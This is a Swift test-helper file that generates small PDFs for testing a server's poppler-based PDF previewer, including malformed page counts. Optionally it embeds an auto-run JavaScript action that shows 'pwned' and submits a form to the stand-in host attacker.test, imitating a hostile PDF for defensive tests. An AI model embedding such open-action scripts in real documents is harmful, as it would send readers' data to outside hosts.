import Foundation
import WhereaboutsEvidence

/// Small PDFs made for tests (decision 0038), and poppler's tools as the server would find them.
/// Test code only.
public enum TestPDF {
    /// A PDF of `pages` letter-size pages, each saying "Page N" (and `text` on the first); with
    /// `javaScript`, a document-level script run on opening (as a hostile PDF would carry); with
    /// `claimedPages`, a page tree that claims that many pages while holding `pages`.
    public static func document(
        pages: Int = 1, text: String = "Whereabouts test", javaScript: Bool = false, claimedPages: Int? = nil
    ) -> [UInt8] {
        var objects: [String] = []
        let pageObjects = (0..<pages).map { 3 + 2 * $0 }
        let script = 3 + 2 * pages
        objects.append(
            "<< /Type /Catalog /Pages 2 0 R"
                + (javaScript
                    ? " /OpenAction \(script) 0 R /Names << /JavaScript << /Names [(a) \(script) 0 R] >> >>" : "")
                + " >>")
        objects.append(
            "<< /Type /Pages /Kids [\(pageObjects.map { "\($0) 0 R" }.joined(separator: " "))] /Count \(claimedPages ?? pages) >>"
        )
        for index in 0..<pages {
            let words = index == 0 ? "(Page 1) Tj 0 -40 Td (\(text)) Tj" : "(Page \(index + 1)) Tj"
            let content = "BT /F1 36 Tf 72 680 Td \(words) ET"
            objects.append(
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents \(pageObjects[index] + 1) 0 R "
                    + "/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>")
            objects.append("<< /Length \(content.utf8.count) >>\nstream\n\(content)\nendstream")
        }
        if javaScript {
            objects.append(
                "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://attacker.test/'\\);) >>"
            )
        }
        var out = "%PDF-1.4\n"
        var offsets: [Int] = []
        for (number, object) in objects.enumerated() {
            offsets.append(out.utf8.count)
            out += "\(number + 1) 0 obj\n\(object)\nendobj\n"
        }
        let table = out.utf8.count
        out += "xref\n0 \(objects.count + 1)\n0000000000 65535 f \n"
        for offset in offsets {
            let digits = String(offset)
            out += String(repeating: "0", count: 10 - digits.count) + digits + " 00000 n \n"
        }
        out += "trailer\n<< /Size \(objects.count + 1) /Root 1 0 R >>\nstartxref\n\(table)\n%%EOF\n"
        return Array(out.utf8)
    }

    /// The previewer the server builds when poppler is installed (found in `PATH`), or nil.
    public static var previewer: PDFPreviewer? {
        PDFPreviewer.find(
            in: (ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin").split(separator: ":").map(String.init))
    }

    /// Whether tests that need poppler must run even when it is missing (and so fail): in CI, which
    /// installs it and sets `WHEREABOUTS_REQUIRE_POPPLER` (or `CI=true`).
    public static var popplerRequired: Bool {
        let environment = ProcessInfo.processInfo.environment
        return environment["WHEREABOUTS_REQUIRE_POPPLER"] != nil || environment["CI"] == "true"
    }

    /// Whether a test that needs poppler runs here.
    public static var popplerRuns: Bool { previewer != nil || popplerRequired }
}
